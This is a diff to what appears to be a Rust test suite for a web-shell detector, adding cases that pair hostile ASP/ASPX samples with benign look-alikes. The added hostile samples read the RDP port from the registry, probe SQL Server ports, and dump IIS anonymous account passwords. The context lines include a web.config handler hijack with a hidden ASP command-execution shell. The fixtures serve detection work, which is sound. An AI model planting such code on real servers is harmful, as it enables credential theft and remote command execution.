@@ -402,6 +402,21 @@ fn cases() -> Vec<Case> {
             "<script runat=\"server\" language=\"javascript\">\nvar input = String(Request.Form(\"z\"));\nvar evaluation = { score: 3 };\nResponse.Write(Server.HTMLEncode(input) + evaluation.score);\n</script>\n",
         ),
         case(
+            "EXRAY_RDP_Port_Registry_Read",
+            "Function TermPort()\nSet sh = Server.CreateObject(\"WScript.Shell\")\nTermPort = sh.RegRead(\"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp\\PortNumber\")\nEnd Function\nResponse.Write TermPort()\n",
+            "<%\n' Remote desktop help page: the default RDP-Tcp PortNumber is 3389.\nSet sh = Server.CreateObject(\"WScript.Shell\")\nlang = sh.RegRead(\"HKCU\\Control Panel\\International\\LocaleName\")\nResponse.Write \"Connect to port 3389 (\" & lang & \")\"\n%>\n",
+        ),
+        case(
+            "EXRAY_SQLOLEDB_Port_Probe",
+            "Function Probe(host, list)\nOn Error Resume Next\nFor Each p In Split(list, \",\")\nSet c = Server.CreateObject(\"ADODB.Connection\")\nc.ConnectionTimeout = 1\nc.Open \"Provider=SQLOLEDB;Data Source=\" & host & \",\" & p & \";User ID=x;Password=x;\"\nIf Err.Number = -2147217843 Then Probe = Probe & p & \" open \"\nErr.Clear\nNext\nEnd Function\n",
+            "<%\nOn Error Resume Next\nSet c = Server.CreateObject(\"ADODB.Connection\")\nc.ConnectionTimeout = 15\nc.Open \"Provider=SQLOLEDB;Data Source=\" & Application(\"dbhost\") & \";Initial Catalog=shop;Integrated Security=SSPI\"\nIf Err.Number = -2147217843 Then Response.Write \"The shop database refused the login.\"\n%>\n",
+        ),
+        case(
+            "EXRAY_IIS_Metabase_Password_Read",
+            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.DirectoryServices\" %>\n<% var w3 = new DirectoryEntry(\"IIS://localhost/W3SVC\");\nforeach (DirectoryEntry site in w3.Children) {\n  var root = site.Children.Find(\"root\", \"IIsWebVirtualDir\");\n  Response.Write(root.Properties[\"AnonymousUserName\"].Value + \":\" + root.Properties[\"AnonymousUserPass\"].Value + \"<br>\");\n} %>\n",
+            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.DirectoryServices\" %>\n<% var root = new DirectoryEntry(\"IIS://localhost/W3SVC/\" + siteId + \"/root\");\nroot.Properties[\"AnonymousUserName\"].Value = account.Text;\nroot.Properties[\"AnonymousUserPass\"].Value = password.Text;\nroot.CommitChanges(); %>\n",
+        ),
+        case(
             "EXRAY_WebConfig_Handler_Hijack",
             "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<configuration>\n <system.webServer>\n  <handlers accessPolicy=\"Read, Script, Write\">\n   <add name=\"cfg\" path=\"*.config\" verb=\"*\" modules=\"IsapiModule\" scriptProcessor=\"%windir%\\system32\\inetsrv\\asp.dll\" resourceType=\"Unspecified\" />\n  </handlers>\n  <security><requestFiltering><fileExtensions><remove fileExtension=\".config\" /></fileExtensions></requestFiltering></security>\n </system.webServer>\n</configuration>\n<!-- <% Response.Write(CreateObject(\"WScript.Shell\").Exec(Request(\"q\")).StdOut.ReadAll()) %> -->\n",
             "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<configuration>\n <system.webServer>\n  <handlers>\n   <add name=\"ExtensionlessUrl\" path=\"*.\" verb=\"GET,HEAD\" type=\"System.Web.Handlers.TransferRequestHandler\" preCondition=\"integratedMode\" />\n  </handlers>\n </system.webServer>\n <appSettings><add key=\"greeting\" value=\"&lt;%= hello %&gt;\" /></appSettings>\n</configuration>\n",
